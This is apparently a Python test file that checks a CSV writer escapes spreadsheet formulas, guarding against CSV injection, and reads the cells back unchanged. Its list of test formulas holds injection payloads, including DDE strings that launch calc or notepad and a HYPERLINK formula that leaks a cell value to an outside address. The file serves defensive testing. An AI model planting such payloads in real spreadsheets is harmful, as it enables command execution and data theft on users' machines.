"""Cells that a spreadsheet program would compute: written as text, read as they were."""

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from nomoflow.run import read_rows, read_table, write_rows, write_table
from nomoflow.spreadsheet import guarded, unguarded

# The examples of OWASP's page on CSV injection, and relatives of theirs.
FORMULAS = [
    "=1+2", '=1+2";=1+2', "=1+2'\" ;,=1+2", "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A1", "-2+3+cmd|' /C calc'!D2", "+1+1", "-1-1", "\t=1", "\r=1", "-A1",
    '=HYPERLINK("http://x?leak="&A1,"x")', "＝1+1", "+ve", "-(1)", "'=1", "-1 =1", "+1\n", "=",
]  # fmt: skip
TEXTS = [
    "-1024", "+5", "-0.5", ".5", "-.5e-3", "-1e+05", "+", "-", "++", "+++", "--", "-1024 HU",
    "-5 mm", "-3 %", "1-2", "a=b", "x@y", "", "'", "'a", "0001", "P-1", "<=40", "−1", "-1,5",
    "-12 mg/ml", "it's", "-30 to 5",
]  # fmt: skip


@pytest.mark.parametrize("cell", FORMULAS)
def test_formulas_are_text(cell):
    assert guarded(cell) == f"'{cell}"
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize("cell", [*TEXTS, 5, -0.5, None, True])
def test_all_else_stays_as_it_is(cell):
    assert guarded(cell) is cell
    assert unguarded(cell) is cell


@given(st.text())
def test_what_is_written_is_read_and_never_begins_a_formula(cell):
    assert unguarded(guarded(cell)) == cell
    written = guarded(cell)
    assert written[:1] not in ("=", "@", "\t", "\r", "＝", "＠")
    assert not written.startswith(("+", "-")) or not set("=|!(@'\"*&") & set(written)


@given(st.floats() | st.integers())
def test_numbers_as_text_stay_numbers(number):
    written = repr(number)
    assert guarded(written) == written or "n" in written  # -inf and nan are none


CELLS = st.sampled_from([*FORMULAS[:9], *TEXTS, "'=x", "''=x", "a\nb"])


@given(st.lists(st.tuples(CELLS, CELLS), min_size=1, max_size=5))
def test_tables(tmp_path_factory, cells):
    folder = tmp_path_factory.mktemp("tables")
    rows = [{"=a": one, "b": other, "patient": "P1"} for one, other in cells]
    write_rows(rows, folder / "a.csv", ["=a", "b", "patient"])
    assert read_rows(folder / "a.csv") == rows
    frame = pd.DataFrame(rows)
    write_table(frame, folder / "b.csv")
    assert (folder / "b.csv").read_bytes() == (folder / "a.csv").read_bytes()
    text = ["note", "detail", "patient"]
    write_table(frame.set_axis(text, axis=1).assign(x=-1.5), folder / "c.csv")
    read = read_table(folder / "c.csv")
    assert read[text].fillna("").to_numpy().tolist() == frame.to_numpy().tolist()
    assert read["x"].tolist() == [-1.5] * len(rows)
